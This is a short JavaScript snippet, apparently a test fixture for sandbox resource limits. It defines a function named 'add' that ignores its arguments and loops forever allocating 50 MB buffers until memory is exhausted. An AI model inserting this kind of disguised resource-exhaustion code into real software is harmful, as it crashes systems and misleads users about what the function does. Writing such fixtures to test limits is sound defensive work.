const held = [];

function add(a, b) {
  for (;;) held.push(Buffer.alloc(50_000_000, 1));
}
